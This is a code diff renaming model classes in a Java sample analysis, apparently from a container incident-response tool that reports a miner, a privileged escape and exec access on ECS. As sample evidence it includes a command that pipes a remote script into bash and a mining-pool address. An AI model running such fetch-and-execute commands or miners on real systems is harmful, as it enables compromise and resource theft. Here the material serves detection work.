@@ -12,22 +12,21 @@ import org.ephemera.analyze.Analysis;
 import org.ephemera.analyze.AnalyzedPackage;
 import org.ephemera.analyze.model.CallerSummaries;
 import org.ephemera.analyze.model.CallerSummary;
-import org.ephemera.analyze.model.Container;
+import org.ephemera.analyze.model.ContainerExecution;
+import org.ephemera.analyze.model.ContainerPrivileges;
+import org.ephemera.analyze.model.ContainerSpec;
 import org.ephemera.analyze.model.CurrentTag;
-import org.ephemera.analyze.model.Evidence;
-import org.ephemera.analyze.model.Execution;
-import org.ephemera.analyze.model.Fact;
+import org.ephemera.analyze.model.EvidenceGap;
+import org.ephemera.analyze.model.EvidenceLocation;
 import org.ephemera.analyze.model.FileLocation;
 import org.ephemera.analyze.model.Finding;
-import org.ephemera.analyze.model.Gap;
-import org.ephemera.analyze.model.Host;
 import org.ephemera.analyze.model.Indicator;
+import org.ephemera.analyze.model.LocatedValue;
 import org.ephemera.analyze.model.MetricSubject;
 import org.ephemera.analyze.model.MinerScore;
 import org.ephemera.analyze.model.NextStep;
 import org.ephemera.analyze.model.OtherRegionCalls;
 import org.ephemera.analyze.model.Platform;
-import org.ephemera.analyze.model.Privileges;
 import org.ephemera.analyze.model.Rule;
 import org.ephemera.analyze.model.Severity;
 import org.ephemera.analyze.model.ShellWord;
@@ -35,6 +34,7 @@ import org.ephemera.analyze.model.SpecChange;
 import org.ephemera.analyze.model.TimeSeries;
 import org.ephemera.analyze.model.Verdict;
 import org.ephemera.analyze.model.Workload;
+import org.ephemera.analyze.model.WorkloadHost;
 import org.ephemera.model.Digest;
 
 /** Sample analysis of an incident on ECS with EC2: a miner, an escape, and interactive access. */
@@ -114,8 +114,8 @@ final class SampleAnalysis {
                 indicators(),
                 SampleItems.coverage(this::said),
                 List.of(
-                        new Gap("aws.ecs.exec-session.2", "the session's end is missing: " + said("no EXIT line")),
-                        new Gap("LOG rules on audit", "its output went to a log router, and no copy was collected")));
+                        new EvidenceGap("aws.ecs.exec-session.2", "the session's end is missing: " + said("no EXIT line")),
+                        new EvidenceGap("LOG rules on audit", "its output went to a log router, and no copy was collected")));
     }
 
     private List<OtherRegionCalls> elsewhere() {
@@ -188,25 +188,25 @@ final class SampleAnalysis {
         return new Rule(id, severity, title, List.of(attack), Optional.of(next), note);
     }
 
-    static Evidence pointer(String item, String path) {
-        return new Evidence("data/raw/" + item + "/4bce8da1/0001.body.json", new FileLocation.Pointer(path), SHA);
+    static EvidenceLocation pointer(String item, String path) {
+        return new EvidenceLocation("data/raw/" + item + "/4bce8da1/0001.body.json", new FileLocation.Pointer(path), SHA);
     }
 
-    private static Evidence line(String file, long number) {
-        return new Evidence(file, new FileLocation.Line(number), SHA);
+    private static EvidenceLocation line(String file, long number) {
+        return new EvidenceLocation(file, new FileLocation.Line(number), SHA);
     }
 
     private List<Finding> findings() {
-        Evidence definition = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged");
+        EvidenceLocation definition = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged");
         return List.of(
                 Finding.of(ESCAPE, said("checkout"), "privileged is " + said("true"), definition)
-                        .ontoHost(),
+                        .asHostPath(),
                 Finding.of(
                                 COMMAND,
                                 "checkout",
                                 said("sh -c curl -fsSL http://198.51.100.7/x.sh | bash"),
                                 pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command"))
-                        .with(pointer("aws.cloudtrail.events.2", "/Events/3")),
+                        .withEvidence(pointer("aws.cloudtrail.events.2", "/Events/3")),
                 Finding.of(
                                 EXEC,
                                 said("arn:aws:iam::111122223333:user/ops-hotfix"),
@@ -214,17 +214,17 @@ final class SampleAnalysis {
                                 pointer("aws.cloudtrail.events.1", "/Events/0"))
                         .at(Instant.parse("2026-11-26T11:53:13Z")),
                 Finding.of(IMAGE, "metrics-agent", said("shop/metrics-agent:1.9.0"), definition)
-                        .with(new Evidence(LOG_IN_JSON, new FileLocation.Line("/content", 3), SHA)),
+                        .withEvidence(new EvidenceLocation(LOG_IN_JSON, new FileLocation.Line("/content", 3), SHA)),
                 Finding.of(ROOT, "checkout", "user is not set", definition),
                 Finding.of(ESCAPE, "aws-guardduty-agent", "privileged is true", definition)
-                        .suppressed("known agent: GuardDuty's own container"));
+                        .suppressedAs("known agent: GuardDuty's own container"));
     }
 
     private Verdict verdict() {
         return new Verdict(
                 Verdict.Answer.IMAGE_HOST,
                 Verdict.Confidence.LIKELY,
-                List.of(new Fact<>(
+                List.of(new LocatedValue<>(
                         "ESC-001: checkout runs privileged on an EC2 instance that you can image",
                         pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/privileged"))),
                 List.of(
@@ -243,18 +243,18 @@ final class SampleAnalysis {
     }
 
     private Workload workload() {
-        Evidence at = pointer("aws.ecs.task", "/tasks/0");
+        EvidenceLocation at = pointer("aws.ecs.task", "/tasks/0");
         return new Workload(
                 Platform.ECS_EC2,
                 "111122223333/eu-central-1",
                 TASK,
-                Optional.of(new Fact<>("service:checkout", at.child("group"))),
-                List.of(new Host(
-                        new Fact<>("i-0a1b2c3d4e5f60718", at),
+                Optional.of(new LocatedValue<>("service:checkout", at.child("group"))),
+                List.of(new WorkloadHost(
+                        new LocatedValue<>("i-0a1b2c3d4e5f60718", at),
                         "",
-                        List.of(new Fact<>("vol-0123456789abcdef0", at)),
-                        List.of(new Fact<>("docker 25.0.3", at)),
-                        List.of(new Fact<>(said("task payments/7d41"), at)))),
+                        List.of(new LocatedValue<>("vol-0123456789abcdef0", at)),
+                        List.of(new LocatedValue<>("docker 25.0.3", at)),
+                        List.of(new LocatedValue<>(said("task payments/7d41"), at)))),
                 Optional.empty(),
                 Optional.empty(),
                 List.of(
@@ -262,41 +262,41 @@ final class SampleAnalysis {
                                 "checkout",
                                 said("111122223333.dkr.ecr.eu-central-1.amazonaws.com/shop/checkout:2026.11.3")),
                         container(said("metrics-agent"), "shop/metrics-agent:1.9.0")),
-                List.of(new Fact<>("arn:aws:iam::111122223333:role/shop-checkout-task", at)),
+                List.of(new LocatedValue<>("arn:aws:iam::111122223333:role/shop-checkout-task", at)),
                 Map.of(),
-                org.ephemera.analyze.model.Exposure.NONE,
+                org.ephemera.analyze.model.WorkloadExposure.NONE,
                 List.of(),
                 at);
     }
 
-    private Container container(String name, String image) {
-        Evidence at = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0");
-        return new Container(
+    private ContainerSpec container(String name, String image) {
+        EvidenceLocation at = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0");
+        return new ContainerSpec(
                 name,
-                Container.Kind.MAIN,
-                Optional.of(new Fact<>(image, at.child("image"))),
-                Optional.of(new Fact<>("sha256:" + SHA.hex(), at)),
-                Privileges.NONE,
+                ContainerSpec.Kind.MAIN,
+                Optional.of(new LocatedValue<>(image, at.child("image"))),
+                Optional.of(new LocatedValue<>("sha256:" + SHA.hex(), at)),
+                ContainerPrivileges.NONE,
                 List.of(),
                 List.of(),
-                org.ephemera.analyze.model.Confinement.UNSET,
-                new Execution(
-                        List.of(new Execution.Command(
+                org.ephemera.analyze.model.SecurityRestrictions.UNSET,
+                new ContainerExecution(
+                        List.of(new ContainerExecution.Command(
                                 "command",
                                 List.of("sh", "-c", said("curl -fsSL http://198.51.100.7/x.sh | bash; echo $HOME")),
                                 true,
                                 at.child("command"))),
                         List.of(
-                                new Execution.Variable("POOL", "stratum+tcp://198.51.100.7:3333", true, at),
-                                new Execution.Variable(said("DB_HOST"), "a-value-that-must-not-show", false, at)),
+                                new ContainerExecution.Variable("POOL", "stratum+tcp://198.51.100.7:3333", true, at),
+                                new ContainerExecution.Variable(said("DB_HOST"), "a-value-that-must-not-show", false, at)),
                         List.of(),
-                        Optional.of(new Fact<>(0.5, at)),
-                        Optional.of(new Fact<>(1L << 30, at))),
+                        Optional.of(new LocatedValue<>(0.5, at)),
+                        Optional.of(new LocatedValue<>(1L << 30, at))),
                 at);
     }
 
     private List<MinerScore> miners() {
-        Evidence at = pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4");
+        EvidenceLocation at = pointer("aws.cloudwatch.container-insights.1", "/MetricDataResults/4");
         return List.of(
                 new MinerScore(
                         measured("checkout"),
@@ -309,7 +309,7 @@ final class SampleAnalysis {
                                 new MinerScore.Points("MEMORY_STEP", 4, said("2,081 MiB more at 11:55"), List.of(at)),
                                 new MinerScore.Points("DAY_SHAPE", -1, "earlier days were busy too", List.of())),
                         ""),
-                MinerScore.quiet(measured("metrics-agent"), "metrics-agent", ""));
+                MinerScore.withoutPoints(measured("metrics-agent"), "metrics-agent", ""));
     }
 
     /** Dimensions of the series of a container in the task. */
@@ -318,8 +318,8 @@ final class SampleAnalysis {
     }
 
     private List<SpecChange> changes() {
-        Evidence at = pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command");
-        Evidence before = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/command");
+        EvidenceLocation at = pointer("aws.ecs.task", "/tasks/0/overrides/containerOverrides/0/command");
+        EvidenceLocation before = pointer("aws.ecs.task-definition.1", "/taskDefinition/containerDefinitions/0/command");
         return List.of(
                 new SpecChange(
                         "checkout",
@@ -378,7 +378,7 @@ final class SampleAnalysis {
     }
 
     private List<Indicator> indicators() {
-        Evidence at = line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", 3312);
+        EvidenceLocation at = line("data/raw/aws.logs.stream.1/4bce8da1/0001.body.json", 3312);
         return List.of(
                 new Indicator(Indicator.Kind.IP, "198.51.100.7", List.of("CMD-001"), at),
                 new Indicator(Indicator.Kind.URL, said("http://198.51.100.7/x.sh"), List.of("CMD-001"), at),
